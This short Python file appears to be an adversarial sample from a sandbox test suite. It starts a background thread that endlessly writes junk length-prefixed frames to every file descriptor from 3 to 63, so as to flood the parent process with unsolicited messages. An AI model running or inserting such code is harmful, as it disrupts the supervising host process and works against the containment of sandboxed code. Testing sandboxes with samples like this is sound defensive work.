# What it tries: Keep the parent busy with frames that nobody asked for.
import os
import struct
import threading

def talk():
    while True:
        for number in range(3, 64):
            try:
                os.write(number, struct.pack(">I", 30) + b"0" * 30)
            except OSError:
                pass

threading.Thread(target=talk, daemon=True).start()
